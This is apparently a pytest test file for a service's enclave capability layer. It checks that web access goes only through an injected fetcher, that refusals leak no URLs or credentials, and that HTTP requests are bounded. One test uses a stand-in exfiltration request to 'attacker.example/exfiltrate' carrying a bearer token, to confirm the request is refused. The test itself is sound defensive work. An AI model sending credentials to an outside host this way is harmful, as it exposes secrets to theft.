"""Capabilities injected into the enclave context (``enclave/capabilities.py``): an op reaches the web
through ``ctx.fetcher`` only, and an enclave started without one refuses, whatever the host asks.

The fetcher here is a FAKE (``RecordingFetcher``): it stands in for the oracle's fetcher, which does not
exist yet; the op under test is the test-only ``test.fetch`` of ``testops``.
"""

from __future__ import annotations

import hashlib
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from neo_service_layer.enclave.capabilities import (
    HttpRequest,
    HttpResponse,
    UnconfiguredFetcher,
    UnconfiguredSandbox,
)
from neo_service_layer.enclave.client import UnixEnclaveClient
from neo_service_layer.enclave.context import EnclaveContext
from neo_service_layer.enclave.functions.runs import RunRequest
from neo_service_layer.enclave.ops import OpRegistry
from neo_service_layer.enclave.protocol import CapabilityUnavailable, ErrorCode
from neo_service_layer.enclave.server import EnclaveServer
from neo_service_layer.errors import EnclaveRejected
from tests.enclave import testops

BODY = b'{"neo": 12.5}'
TOKEN = "Bearer secret-api-token"  # must never come back in an error


class RecordingFetcher:
    """FAKE :class:`HttpFetcher`: answers every request with one response and records what it was asked."""

    def __init__(self, response: HttpResponse) -> None:
        self.response = response
        self.requests: list[HttpRequest] = []

    async def fetch(self, request: HttpRequest) -> HttpResponse:
        self.requests.append(request)
        return self.response


@pytest.fixture
def fetcher() -> RecordingFetcher:
    return RecordingFetcher(HttpResponse(status=200, headers={"content-type": "application/json"}, body=BODY))


async def _serve(ctx: EnclaveContext, registry: OpRegistry, path: Path) -> AsyncIterator[UnixEnclaveClient]:
    server = EnclaveServer(ctx, registry, path, stop_grace_seconds=2.0)
    await server.start()
    client = UnixEnclaveClient(path, timeout=5.0, pool_size=1)
    try:
        yield client
    finally:
        await client.close()
        await server.stop()


@pytest.fixture
async def fetching_client(
    ctx: EnclaveContext, registry: OpRegistry, socket_path: Path, fetcher: RecordingFetcher
) -> AsyncIterator[UnixEnclaveClient]:
    """A client of an enclave whose context was given the fake fetcher."""
    with_fetcher = EnclaveContext(
        identity=ctx.identity, sealer=ctx.sealer, backend=ctx.backend, report=ctx.report, fetcher=fetcher
    )
    async for client in _serve(with_fetcher, registry, socket_path):
        yield client


async def test_an_op_fetches_through_the_injected_fetcher(
    fetching_client: UnixEnclaveClient, fetcher: RecordingFetcher
) -> None:
    args = testops.FetchArgs(url="https://api.example/price", method="POST", authorization=TOKEN)
    result = await fetching_client.run(testops.FETCH, args)
    assert result == testops.FetchResult(
        status=200, content_type="application/json", body_sha256=hashlib.sha256(BODY).hexdigest()
    )
    assert fetcher.requests == [
        HttpRequest(
            method="POST",
            url="https://api.example/price",
            headers={"Authorization": TOKEN},
            timeout_seconds=testops.FETCH_TIMEOUT_SECONDS,
            max_bytes=testops.FETCH_MAX_BYTES,
        )
    ]


async def test_an_enclave_without_a_fetcher_refuses_to_fetch(client: UnixEnclaveClient) -> None:
    """The host asks an enclave started without a fetcher (the default) to reach the web: refused with
    ``capability_unavailable``, and the refusal quotes neither the URL nor the credential it carried."""
    args = testops.FetchArgs(url="https://attacker.example/exfiltrate", authorization=TOKEN)
    with pytest.raises(EnclaveRejected) as caught:
        await client.run(testops.FETCH, args)
    assert caught.value.enclave_code == ErrorCode.CAPABILITY_UNAVAILABLE
    assert "attacker.example" not in caught.value.detail
    assert "secret-api-token" not in caught.value.detail
    assert (await client.ping()).protocol_version == 1  # the connection and the enclave carry on


async def test_the_unconfigured_capabilities_refuse() -> None:
    request = HttpRequest(method="GET", url="https://api.example", timeout_seconds=1.0, max_bytes=10)
    with pytest.raises(CapabilityUnavailable, match="no HTTP fetcher"):
        await UnconfiguredFetcher().fetch(request)
    with pytest.raises(CapabilityUnavailable, match="no sandbox"):
        await UnconfiguredSandbox().run(RunRequest("return 1"))
    with pytest.raises(CapabilityUnavailable, match="no sandbox"):
        await UnconfiguredSandbox().check("return 1")


def test_a_context_defaults_to_the_unconfigured_capabilities(ctx: EnclaveContext) -> None:
    assert isinstance(ctx.fetcher, UnconfiguredFetcher)
    assert isinstance(ctx.sandbox, UnconfiguredSandbox)


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        pytest.param({"method": "get"}, "HTTP method", id="lowercase-method"),
        pytest.param({"method": "CONNECT"}, "HTTP method", id="connect"),
        pytest.param({"timeout_seconds": 0.0}, "timeout_seconds", id="no-timeout"),
        pytest.param({"max_bytes": 0}, "max_bytes", id="no-bytes"),
    ],
)
def test_http_requests_are_bounded(overrides: dict[str, Any], message: str) -> None:
    fields: dict[str, Any] = {"method": "GET", "url": "https://api.example", "timeout_seconds": 1.0}
    with pytest.raises(ValueError, match=message):
        HttpRequest(**(fields | {"max_bytes": 10} | overrides))
